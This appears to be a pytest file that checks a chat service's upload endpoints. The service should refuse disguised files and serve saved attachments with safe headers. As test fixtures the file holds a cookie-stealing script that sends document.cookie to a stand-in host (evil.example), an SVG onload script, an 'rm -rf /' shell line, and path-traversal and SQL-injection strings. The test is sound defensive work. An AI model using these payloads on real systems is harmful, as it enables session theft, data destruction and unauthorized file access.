"""Files that are not what they are called are refused, and what was taken is handed out as a file to be saved."""

import json
import time
import urllib.error
import urllib.request
import uuid

import pytest
from test_api import call

PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489")
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
HTML = b"<!doctype html><script>fetch('https://evil.example/' + document.cookie)</script>"
SVG = b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"


def form(fields, files):
    boundary = uuid.uuid4().hex
    parts = [f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
             for name, value in fields.items()]
    for name, kind, content in files:
        head = f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
        parts.append((head + (f"Content-Type: {kind}\r\n" if kind else "") + "\r\n").encode() + content + b"\r\n")
    return b"".join(parts) + f"--{boundary}--\r\n".encode(), f"multipart/form-data; boundary={boundary}"


def send(server, path, token, fields, files):
    body, kind = form(fields, files)
    request = urllib.request.Request(server.url + path, body, {"Content-Type": kind, "Authorization": f"Bearer {token}"})
    try:
        with urllib.request.urlopen(request) as response:
            return response.status, json.loads(response.read())
    except urllib.error.HTTPError as error:
        return error.code, json.loads(error.read())


@pytest.fixture
def talk(server):
    status, created = call(server, "POST", "/v1/conversations", {})
    assert status == 201
    return created["conversation"]["id"], created["token"]


def attach(server, talk, *files):
    return send(server, f"/v1/conversations/{talk[0]}/messages", talk[1], {"text": "How much is parking?"}, files)


DISGUISED = [
    ("photo.png", "image/png", HTML, "HTML"), ("photo.png", "image/png", SVG, "SVG"), ("notes.txt", "text/plain", ELF, "Linux"),
    ("notes.txt", "text/plain", HTML, "HTML"), ("notes.txt", "", ELF, "Linux"), ("photo.svg", "image/svg+xml", SVG, "SVG"),
    ("setup.exe", "application/octet-stream", b"MZ\x90\0", "Windows"), ("photo.jpg", "image/png", PNG, "PNG"),
    ("photo.png", "image/jpeg", PNG, "PNG"), ("bill.pdf", "application/pdf", b"Just words.", "text"),
    ("run", "application/octet-stream", b"#!/bin/sh\nrm -rf /\n", "script"), ("page.pdf", "", HTML, "HTML"),
    ("tool.zip", "application/zip", b"PK\x03\x04" + bytes(26) + b"META-INF/MANIFEST.MF", "Java"),
]


@pytest.mark.parametrize("name, kind, content, found", DISGUISED)
def test_a_file_in_disguise_is_refused_by_name(server, talk, name, kind, content, found):
    status, problem = attach(server, talk, (name, kind, content))
    assert status == 415, problem
    assert problem["type"] == "/problems/file-type" and found in problem["detail"] and name in problem["detail"]
    messages = call(server, "GET", f"/v1/conversations/{talk[0]}/messages", token=talk[1])[1]["messages"]
    assert messages == [], "nothing of the message is kept"


def test_one_file_in_disguise_keeps_out_the_others(server, talk):
    kept = len(list((server.data / "uploads").iterdir()))
    assert attach(server, talk, ("a.png", "image/png", PNG), ("b.png", "image/png", ELF))[0] == 415
    deadline = time.monotonic() + 10  # They are removed when the answer is out.
    while len(list((server.data / "uploads").iterdir())) > kept:
        assert time.monotonic() < deadline
        time.sleep(0.05)


def download(server, talk, identifier, token=None):
    path = f"/v1/conversations/{talk[0]}/files/{identifier}"
    request = urllib.request.Request(server.url + path, headers={"Authorization": f"Bearer {token or talk[1]}"})
    try:
        with urllib.request.urlopen(request) as response:
            return response.status, response.headers, response.read()
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read()


TAKEN = [
    ("Mein Büro “1”.png", "image/png", PNG, "image/png"), ("notes.md", "text/markdown", b"# Two seats\n", "text/plain"),
    ("page.html", "text/html", HTML, "text/plain"), ("no-type", "application/octet-stream", b"Plain words.\n", "text/plain"),
    ("empty.txt", "text/plain", b"", "text/plain"),
    ("bill.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
     b"PK\x03\x04" + bytes(26) + b"[Content_Types].xml", "application/zip"),
]


@pytest.mark.parametrize("name, kind, content, served", TAKEN)
def test_a_file_comes_back_to_be_saved_and_never_run(server, talk, name, kind, content, served):
    status, answer = attach(server, talk, (name, kind, content))
    assert status == 200, answer
    [file] = answer["message"]["attachments"]
    for token in [talk[1], server.operator_key]:
        status, fields, body = download(server, talk, file["id"], token)
        assert status == 200 and body == content
        assert fields["Content-Type"] == served and fields["X-Content-Type-Options"] == "nosniff"
        assert fields["Content-Disposition"].startswith("attachment; filename*=UTF-8''")
        assert "sandbox" in fields["Content-Security-Policy"] and fields["Cache-Control"] == "no-store"
        fields["Content-Disposition"].encode("ascii")


def test_files_of_another_conversation_are_nobodys(server, talk):
    identifier = attach(server, talk, ("a.png", "image/png", PNG))[1]["message"]["attachments"][0]["id"]
    other = call(server, "POST", "/v1/conversations", {})[1]
    elsewhere = other["conversation"]["id"], other["token"]
    assert download(server, elsewhere, identifier)[0] == 404
    assert download(server, talk, identifier, elsewhere[1])[0] == 403
    for wrong in ["x", "..%2f..%2fsecret", "..", "%2e%2e%2fusher.db", identifier[:-1], "%27%20OR%201=1"]:
        assert download(server, talk, wrong)[0] in (400, 404), wrong


@pytest.mark.parametrize("name, kind, content, found", [
    ("handbook.pdf", "application/pdf", HTML, "HTML"), ("handbook.md", "text/markdown", ELF, "Linux"),
    ("handbook.md", "image/png", b"# Words", "text"), ("photo.txt", "text/plain", PNG, "PNG"),
    ("logo.svg", "image/svg+xml", SVG, "SVG")])
def test_a_document_in_disguise_is_refused(server, name, kind, content, found):
    status, problem = send(server, "/v1/knowledge/documents", server.operator_key, {"title": "Disguised"}, [(name, kind, content)])
    assert status == 415 and found in problem["detail"], problem
